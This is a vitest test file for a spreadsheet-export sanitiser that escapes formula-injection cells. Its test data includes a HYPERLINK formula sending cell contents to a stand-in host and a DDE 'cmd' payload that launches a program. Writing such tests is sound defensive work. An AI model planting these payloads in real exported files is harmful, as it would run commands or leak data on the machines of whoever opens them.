import { describe, expect, it } from 'vitest';
import { harmlessCells } from '../../../kit/list/harmlessCells';

describe('[XC6] a row that leaves for a spreadsheet', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://canary.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '+79001234567',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '=',
  ])('has %j as text', (cell) => {
    expect(harmlessCells([{ title: cell, inner: { list: [cell] } }])).toEqual([
      { title: `'${cell}`, inner: { list: [`'${cell}`] } },
    ]);
  });

  it('keeps everything else as it is', () => {
    const row = {
      id: -1,
      price: '390',
      title: 'Борщ = суп',
      visible: true,
      none: null,
      at: new Date(0),
      tags: [],
    };
    expect(harmlessCells([row])).toEqual([row]);
  });
});
